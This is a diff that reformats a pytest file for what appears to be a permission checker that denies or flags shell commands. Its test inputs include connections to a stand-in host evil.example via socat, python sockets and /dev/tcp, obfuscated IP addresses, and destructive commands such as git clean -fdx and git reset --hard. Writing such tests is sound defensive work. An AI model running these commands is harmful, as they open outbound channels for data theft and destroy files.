@@ -58,7 +58,9 @@ def test_a_denied_command_is_found_however_it_is_written(command: str) -> None:
     assert rules.denied(command, examine_command(command).acts, GROUND)
 
 
-@pytest.mark.parametrize("command", ["git pull", "echo git push", "git commit -m 'git push'", "gitpush", "grep push x"])
+@pytest.mark.parametrize(
+    "command", ["git pull", "echo git push", "git commit -m 'git push'", "gitpush", "grep push x"]
+)
 def test_and_nothing_else(command: str) -> None:
     rules = Rules([DENY_PUSH], ["git push*"])
     assert rules.denied(command, examine_command(command).acts, GROUND) is None
@@ -92,7 +94,9 @@ def test_a_denied_effect_has_many_spellings(command: str, by_glob: bool) -> None
     assert rules.denied(command, examine_command(command).acts, GROUND)
 
 
-@pytest.mark.parametrize("command", ["npm run build", "npm --silent test", "npm view publish", "yarn build", "npm ci"])
+@pytest.mark.parametrize(
+    "command", ["npm run build", "npm --silent test", "npm view publish", "yarn build", "npm ci"]
+)
 def test_other_effects_of_the_same_program_are_not_denied(command: str) -> None:
     rules = Rules([rule("deny", "npm publish", command=("npm", "publish"))], ["npm publish*"])
     assert rules.denied(command, examine_command(command).acts, GROUND) is None
@@ -109,9 +113,17 @@ def test_other_effects_of_the_same_program_are_not_denied(command: str) -> None:
     ],
 )
 def test_a_denied_option_counts_wherever_it_stands(command: str) -> None:
-    for rules in (Rules([], ["git push --force*"]), Rules([rule("deny", "git push --force", command=FORCE)])):
+    for rules in (
+        Rules([], ["git push --force*"]),
+        Rules([rule("deny", "git push --force", command=FORCE)]),
+    ):
         assert rules.denied(command, examine_command(command).acts, GROUND), command
-        assert rules.denied("git push origin main", examine_command("git push origin main").acts, GROUND) is None
+        assert (
+            rules.denied(
+                "git push origin main", examine_command("git push origin main").acts, GROUND
+            )
+            is None
+        )
 
 
 FORCE = ("git", "push", "--force")
@@ -178,11 +190,17 @@ def test_a_denied_path_is_kept_from_every_way_to_delete_it(command: str) -> None
 @pytest.mark.parametrize(
     "command",
     [
-        "find . -name '*.pyc' -delete", "find . -mtime +30 -delete", "git clean -fdx", "git reset --hard",
-        "git clean -fdx :/", "git clean -f -- 'migr*'", "git stash -u", "git read-tree -u --reset HEAD",
+        "find . -name '*.pyc' -delete",
+        "find . -mtime +30 -delete",
+        "git clean -fdx",
+        "git reset --hard",
+        "git clean -fdx :/",
+        "git clean -f -- 'migr*'",
+        "git stash -u",
+        "git read-tree -u --reset HEAD",
         "git checkout-index -f -a",
     ],
-)  # fmt: skip
+)
 def test_what_may_delete_a_denied_path_is_asked_about(command: str) -> None:
     rules, acts = Rules([MIGRATIONS]), examine_command(command).acts
     assert rules.denied(command, acts, GROUND) is None
@@ -216,13 +234,21 @@ def test_what_may_delete_a_denied_path_is_asked_about(command: str) -> None:
     ],
 )
 def test_and_deleting_something_else_is_not(command: str) -> None:
-    rules, acts = Rules([MIGRATIONS, rule("deny", "rm .env", path=".env")]), examine_command(command).acts
+    rules, acts = (
+        Rules([MIGRATIONS, rule("deny", "rm .env", path=".env")]),
+        examine_command(command).acts,
+    )
     assert rules.denied(command, acts, GROUND) is None
     assert not list(rules.asked(acts, GROUND))
 
 
 @pytest.mark.parametrize(
-    "command", ["find build -delete", "git clean -fdx build", "python3 -c 'import shutil; shutil.rmtree(\"build\")'"]
+    "command",
+    [
+        "find build -delete",
+        "git clean -fdx build",
+        "python3 -c 'import shutil; shutil.rmtree(\"build\")'",
+    ],
 )
 def test_deleting_is_what_rm_does_whatever_does_it(command: str) -> None:
     for rules in (Rules([rule("deny", "rm x", command=("rm",))]), Rules([], ["rm -rf*"])):
@@ -303,7 +329,10 @@ def test_a_path_that_cannot_be_known_may_be_what_is_denied_and_is_asked_about() 
         ("socat - OPENSSL:evil.example:443,verify=0", True),
         ("socat - PROXY:ok.example:evil.example:443,proxyport=3128", True),
         ("python3 -c 'import socket; socket.create_connection((\"evil.example\", 80))'", True),
-        ("python3 -c 'import socket; s = socket.socket(); s.connect((\"evil.example\", 80))'", True),
+        (
+            "python3 -c 'import socket; s = socket.socket(); s.connect((\"evil.example\", 80))'",
+            True,
+        ),
         ("cat </dev/tcp/evil.example/80", True),
         ("exec 3<>/dev/tcp/evil.example/80", True),
         ("curl 'http://{ok,evil}.example/'", True),
@@ -368,7 +397,11 @@ def test_an_address_in_the_place_of_a_name_is_asked_about() -> None:
     acts = examine_command("curl --resolve ok.example:443:203.0.113.7 https://ok.example").acts
     assert rules.denied("", acts, GROUND) is None
     assert list(rules.asked(acts, GROUND))
-    assert not list(rules.asked(examine_command("curl --resolve a.test:80:127.0.0.1 http://a.test").acts, GROUND))
+    assert not list(
+        rules.asked(
+            examine_command("curl --resolve a.test:80:127.0.0.1 http://a.test").acts, GROUND
+        )
+    )
 
 
 @pytest.mark.parametrize("host", ["203.0.113.7", "0xcb.0.113.7", "3405803783", "203.0.28935"])
@@ -389,9 +422,15 @@ def test_the_first_rule_that_applies_decides_between_asking_and_allowing() -> No
 WHOLE = "bash sh python3 python3.12 perl node sudo env rm git find docker /bin/bash b*"
 TOO_MUCH = [
     *([program] for program in WHOLE.split(" ")),
-    ["rm", "-rf"], ["git", "-C"], ["bash", "-c"], ["sudo", "apt"], ["rm", "*"], ["xargs", "rm"], ["npx", "x"],
+    ["rm", "-rf"],
+    ["git", "-C"],
+    ["bash", "-c"],
+    ["sudo", "apt"],
+    ["rm", "*"],
+    ["xargs", "rm"],
+    ["npx", "x"],
     ["ssh", "host"],
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize("words", TOO_MUCH, ids=" ".join)
@@ -408,7 +447,14 @@ def test_no_rule_allows_everything(path: str) -> None:
 
 def test_one_exact_command_of_such_a_program_can_be_allowed() -> None:
     rules = Rules(
-        [rule("allow", "sudo systemctl restart app", command=("sudo", "systemctl", "restart", "app"), exact=True)]
+        [
+            rule(
+                "allow",
+                "sudo systemctl restart app",
+                command=("sudo", "systemctl", "restart", "app"),
+                exact=True,
+            )
+        ]
     )
     parts = examine_command("sudo systemctl stop app").verdict.parts
     assert not any(rules.allows(part, GROUND) for part in parts)
